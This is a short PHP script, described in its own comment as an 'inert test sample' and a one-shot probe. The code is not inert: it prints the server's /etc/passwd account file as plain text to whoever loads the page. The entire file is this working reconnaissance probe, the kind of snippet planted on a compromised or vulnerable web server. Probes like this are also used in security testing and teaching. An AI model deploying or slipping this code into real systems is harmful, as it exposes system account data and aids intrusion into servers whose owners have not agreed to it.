<?php
// inert test sample: a one-shot probe that shows the server's account list
header('Content-Type: text/plain');
print_r(file('/etc/passwd'));
